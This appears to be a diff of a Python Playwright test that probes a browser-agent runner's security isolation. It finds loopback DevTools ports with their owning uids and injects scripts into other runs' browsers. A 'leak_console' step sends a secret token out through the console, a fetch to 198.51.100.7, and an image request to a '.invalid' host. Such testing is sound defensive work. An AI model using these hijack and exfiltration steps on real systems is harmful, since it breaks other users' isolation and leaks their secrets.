@@ -33,11 +33,13 @@ INIT = """
 
 
 
-def devtools_ports() -> list[int]:
-    """Every loopback port that answers as a DevTools endpoint (any other browser to paint)."""
+def devtools_ports() -> dict[int, int]:
+    """Every loopback port that answers as a DevTools endpoint (any other browser to paint), with the uid
+    that owns its listening socket (/proc/net/tcp's 8th column): another run's agent browser, on a host
+    where browser plans run at once, is one (docs/security-isolation.md), the runner's own would be another."""
     import urllib.request
 
-    ports = set()
+    ports: dict[int, int] = {}
     for table in ("/proc/net/tcp", "/proc/net/tcp6"):
         try:
             lines = Path(table).read_text().splitlines()[1:]
@@ -45,14 +47,14 @@ def devtools_ports() -> list[int]:
             continue
         for line in lines:
             f = line.split()
-            if len(f) > 3 and f[3] == "0A":
-                ports.add(int(f[1].rsplit(":", 1)[1], 16))
-    found = []
-    for port in sorted(ports):
+            if len(f) > 7 and f[3] == "0A":
+                ports.setdefault(int(f[1].rsplit(":", 1)[1], 16), int(f[7]))
+    found = {}
+    for port, uid in sorted(ports.items()):
         try:
             with urllib.request.urlopen(f"http://127.0.0.1:{port}/json/version", timeout=0.5) as r:
                 if b"webSocketDebuggerUrl" in r.read(65536):
-                    found.append(port)
+                    found[port] = uid
         except Exception:
             pass
     return found
@@ -79,8 +81,8 @@ with sync_playwright() as p:
         other.goto(APP + "/")
         fresh = "buy milk" in other.inner_text("body")
         other.close()
-        others = 0
-        for port in devtools_ports():
+        others = []
+        for port, uid in devtools_ports().items():
             if f":{port}" in os.environ["REFEREE_CDP_URL"]:
                 continue
             try:
@@ -89,19 +91,20 @@ with sync_playwright() as p:
                     c.add_init_script(INIT)
                     for pg in c.pages:
                         pg.reload()
-                others += 1
+                others.append(uid)
             except Exception:
                 pass
         note = (f"painted={'buy milk' in page.inner_text('body')} fresh_tab_painted={fresh}"
-                f" other_browsers_painted={others}")
+                f" other_browsers_painted={len(others)} other_browser_uids={sorted(set(others))}")
     elif STEP == "leak_console":
         # the secret, learnt out of band, written where the runner logs the browser: its console
         # and a refused request (browser.log in the run directory)
         leak = Path(os.environ["ACC_LEAK"]).read_text().strip()
         page.evaluate("t => { console.error('token ' + t); console.log('token ' + t); }", leak)
+        # each evaluate returns when its request has failed (no fixed wait)
         page.evaluate("t => fetch('http://198.51.100.7/' + t).catch(() => 0)", leak)
-        page.evaluate("t => { const i = new Image(); i.src = 'http://' + t + '.invalid/x.png'; }", leak)
-        page.wait_for_timeout(1500)
+        page.evaluate("t => new Promise(done => { const i = new Image(); i.onload = i.onerror = () => done(0);"
+                      " i.src = 'http://' + t + '.invalid/x.png'; })", leak)
         note = "leaked into the console"
     elif STEP == "leak_page":
         # the secret, learnt out of band, stored in the app through its own form: the page the
